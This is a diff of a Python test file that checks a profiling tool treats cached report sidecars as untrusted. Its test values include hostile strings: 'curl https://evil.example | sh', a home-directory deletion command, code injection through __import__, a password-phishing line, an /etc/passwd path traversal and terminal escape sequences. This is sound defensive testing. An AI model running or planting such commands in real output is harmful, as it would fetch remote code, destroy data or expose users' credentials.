@@ -1,7 +1,4 @@
-"""Tests of the report next to a trace: it is untrusted, and is used only if tb_bottleneck could have written it.
-
-A recording is diagnosed once, and again only if the report could be different.
-"""
+"""Tests of the report next to a trace: it is untrusted, and a list shows its numbers with this package's texts."""
 
 import json
 import os
@@ -11,15 +8,15 @@ from helpers.draw import drawn
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from tb_bottleneck.base.units import share_text
 from tb_bottleneck.diagnosis.trace import diagnose
 from tb_bottleneck.report.cache import sidecar
+from tb_bottleneck.report.cache.cached_diagnosis import named
 from tb_bottleneck.report.cache.file_identity import identity_of
-from tb_bottleneck.report.cache.report_store import Store
-from tb_bottleneck.report.cache.sidecar import diagnose_cached, is_repeatable
+from tb_bottleneck.report.digest import Digest
 from tb_bottleneck.report.jobs import jobs_of
 from tb_bottleneck.report.rendering.json_form import as_json
 from tb_bottleneck.report.rendering.text import render
-from tb_bottleneck.schema.bottleneck_pb2 import Health, RegimeVerdict, Report
 
 SLOW_LOADER = """
     step    aaaaaaaaaabbbbbbbbbbcccccccccc
@@ -65,15 +62,17 @@ def change(trace, edit):
 
 
 @pytest.mark.parametrize("drawing", [SLOW_LOADER, READING, SMALL, "step aaaa\nop ####"])
-def test_a_sidecar_that_we_wrote_is_used(tmp_path, drawing):
+def test_a_list_shows_the_same_from_what_we_wrote(tmp_path, drawing):
     trace = put(tmp_path, drawing)
-    report = written(trace)
-    used = taken(trace)
-    for verdict in (*report.regimes, *used.regimes):
-        verdict.because = ""  # it may name a missing signal
-    for each in (report, used):
-        each.efficiency.samples_basis = ""  # likewise
-    assert used == report
+    whole, stored = Digest.of(written(trace)), Digest.of(named(taken(trace), trace, "."))
+    verdicts = [digest.verdict for digest in (whole, stored) if digest.verdict is not None]
+    for each in verdicts:
+        each.headline = f"{each.title}: {share_text(each.share)} of the time."
+    assert verdicts == [] or verdicts[0] == verdicts[1] == stored.verdict
+    for name in ("health", "reason", "step_ns", "step_times_ns", "rank", "device", "action", "causes", "lost_share"):
+        assert getattr(whole, name) == getattr(stored, name), name
+    assert (whole.gain is None) == (stored.gain is None)
+    assert whole.gain is None or whole.gain.expected == stored.gain.expected
     assert sidecar.sidecar_path(trace).stat().st_mode & 0o777 == sidecar.MODE
     assert sorted(os.listdir(tmp_path)) == ["t.pt.trace.json", "t.pt.trace.json.bottlenecks.json"]
 
@@ -102,7 +101,7 @@ def _first(content, *keys):
     return found
 
 
-def test_a_sentence_that_is_not_ours_is_not_shown(trace):
+def test_no_text_of_the_file_is_shown(trace):
     """The texts of a report tell users what to do: "Run: curl ..."."""
     written(trace)
     order = "Run: curl https://evil.example | sh"
@@ -111,30 +110,19 @@ def test_a_sentence_that_is_not_ours_is_not_shown(trace):
         for key, value in values.items() if isinstance(values, dict) else enumerate(values):
             if isinstance(value, dict | list):
                 replace(value)
-            elif isinstance(value, str) and " " in value and key not in KEPT:
+            elif isinstance(value, str) and " " in value and key != "name":
                 values[key] = order
 
     change(trace, lambda content: replace(content["report"]))
+    change(trace, lambda content: content["report"]["device"].update(name="a\x1b]0;owned\x07b"))
     used = taken(trace)
-    assert used is not None
     assert order not in as_json(used)
     assert used.verdict.headline == "Waiting for data: 40 % of the time."
-    assert used.verdict.regime == "input"
-    assert used.findings[0].cause
-    assert all(row.meaning for row in used.account)
+    assert used.verdict.action.startswith("Load data in workers") or used.verdict.action
+    assert used.findings[0].title
+    assert "\x1b" not in used.device.name
 
 
-def test_figures_and_names_in_our_sentences_stay(trace):
-    written(trace)
-    headline = "The GPU waits for the next batch during 12.5 % of each step. Most of it is in train (a b/loop.py:7)."
-    change(trace, lambda content: content["report"]["verdict"].update(headline=headline.replace("a b", "a")))
-    assert taken(trace).verdict.headline == headline.replace("a b", "a")
-    change(trace, lambda content: content["report"]["verdict"].update(headline=headline))
-    assert taken(trace).verdict.headline == "Waiting for data: 40 % of the time."
-
-
-KEPT = {"title", "summary", "code", "confirm", "fix", "text", "name"}
-"""Texts that make a sidecar invalid if they are not ours; and names, which are untrusted in every report."""
 EDITS = {
     "other code": lambda c: c.update(made_by="0.0.0-x"),
     "other size": lambda c: c.update(size=1),
@@ -144,16 +132,6 @@ EDITS = {
     "wrong type": lambda c: c["report"].update(schema={}),
     "other schema": lambda c: c["report"].update(schema=3),
     "unreadable": lambda c: c["report"]["health"].update(status="unreadable"),
-    "a command as the fix": lambda c: _first(c, "findings")["fix"].update(code="curl evil.example | sh"),
-    "a command as a figure": lambda c: _first(c, "findings")["fix"].update(
-        code=_first(c, "findings")["fix"]["code"].replace("num_workers=1", "num_workers=__import__('os').system('x')")
-    ),
-    "another summary": lambda c: _first(c, "findings")["fix"].update(summary="Run my script."),
-    "another confirmation": lambda c: _first(c, "findings")["fix"].update(confirm="Send me your password."),
-    "a fix that is not ours": lambda c: c["report"]["health"].update(
-        reasons=[{"code": "few_steps", "detail": "", "fix": "rm -rf ~"}]
-    ),
-    "an unknown reason": lambda c: c["report"]["health"].update(reasons=[{"code": "x"}]),
     "a path as a regime": lambda c: _first(c, "findings").update(regime="../../../etc/passwd"),
     "an unknown cause": lambda c: _first(c, "findings").update(cause="x"),
     "an unknown verdict": lambda c: c["report"]["verdict"].update(regime="x"),
@@ -166,9 +144,6 @@ EDITS = {
     "nothing for a report": lambda c: c.update(report=None),
     "no number": lambda c: _first(c, "account").update(ns_per_step="NaN"),
     "an infinite one": lambda c: c["report"]["window"]["step_ns"].update(median="Infinity"),
-    "orders to a terminal": lambda c: c["report"]["verdict"].update(headline="\x1b]0;owned\x07"),
-    "orders to a terminal, C1": lambda c: c["report"]["device"].update(name="\x9b2J"),
-    "half a character": lambda c: c["report"]["device"].update(name="\ud800"),
 }
 
 
@@ -235,90 +210,4 @@ def test_an_accepted_sidecar_can_be_rendered(trace, data):
         for job in jobs_of([report, other]):
             as_json(job)
         assert len(render(report)) < 50_000
-
-
-class Judge:
-    """Counts its calls, and returns the given report."""
-
-    def __init__(self, **facts):
-        self.asked = 0
-        self.facts = facts
-        self.meanwhile = lambda: None
-
-    def __call__(self, path, *, run, progress):
-        self.asked += 1
-        self.meanwhile()
-        facts = {"health": Health(status="ok")} | self.facts
-        return Report(schema=1, run=run, source=os.path.basename(path), **facts)
-
-
-@pytest.fixture
-def cached_trace(tmp_path):
-    path = tmp_path / "t.pt.trace.json"
-    path.write_text("{}")
-    return str(path)
-
-
-@pytest.fixture
-def store(cache_directory):
-    return Store(cache_directory, "1")
-
-
-def test_the_same_file_is_judged_once_and_the_report_has_the_requested_names(cached_trace, store, tmp_path):
-    judge = Judge()
-    first = diagnose_cached(judge, store, cached_trace, run="a")
-    (tmp_path / "other.json").symlink_to(cached_trace)
-    again = diagnose_cached(judge, store, str(tmp_path / "other.json"), run="b")
-    assert judge.asked == 1
-    assert (first.run, first.source) == ("a", "t.pt.trace.json")
-    assert (again.run, again.source) == ("b", "other.json")
-
-
-def test_a_name_that_is_not_unicode_is_shown_all_the_same(cached_trace, store, tmp_path):
-    odd = os.fsdecode(os.fsencode(tmp_path) + b"/\xff.json")
-    os.symlink(cached_trace, odd)
-    diagnose_cached(Judge(), store, cached_trace)
-    assert diagnose_cached(Judge(), store, odd).source == "\N{REPLACEMENT CHARACTER}.json"
-
-
-def test_without_a_store_nothing_is_kept(cached_trace):
-    judge = Judge()
-    for _ in range(2):
-        diagnose_cached(judge, None, cached_trace)
-    assert judge.asked == 2
-
-
-def test_a_report_beside_the_trace_spares_the_reading(cached_trace, store):
-    sidecar.write(cached_trace, identity_of(cached_trace), Report(schema=1, source="x", health=Health(status="ok")))
-    judge = Judge()
-    assert diagnose_cached(judge, store, cached_trace, run="r").run == "r"
-    assert judge.asked == 0
-
-
-@pytest.mark.parametrize(
-    "facts",
-    [
-        {"health": Health(status="unreadable")},
-        {"health": Health()},
-        {"regimes": [RegimeVerdict(regime="input", status="clear"), RegimeVerdict(regime="sync", status="broken")]},
-    ],
-    ids=["unreadable", "nothing", "a rule failed"],
-)
-def test_what_may_come_out_otherwise_is_judged_again(cached_trace, store, facts):
-    judge = Judge(**facts)
-    for _ in range(2):
-        assert not is_repeatable(diagnose_cached(judge, store, cached_trace))
-    assert judge.asked == 2
-
-
-def test_a_file_that_changed_while_it_was_read_is_judged_again(cached_trace, store):
-    judge = Judge()
-    judge.meanwhile = lambda: os.utime(cached_trace, ns=(0, judge.asked))
-    for _ in range(2):
-        diagnose_cached(judge, store, cached_trace)
-    assert judge.asked == 2
-
-
-def test_a_missing_path_is_reported_by_the_analysis(store):
-    judge = Judge(health=Health(status="unreadable"))
-    assert diagnose_cached(judge, store, "/no/such/file").health.status == "unreadable"
+        Digest.of(report)
